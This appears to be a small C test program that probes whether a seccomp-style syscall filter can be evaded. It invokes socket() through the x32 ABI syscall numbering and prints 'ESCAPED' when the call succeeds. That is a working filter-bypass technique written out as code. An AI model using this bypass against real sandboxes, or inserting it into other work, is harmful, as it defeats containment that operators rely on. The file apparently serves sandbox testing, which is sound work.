// Wants past the filter by the numbers of the x32 interface.
// attack: c io
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) { long got = syscall(0x40000000 + SYS_socket, 2, 1, 0); if (got >= 0) puts("ESCAPED"); return 0; }
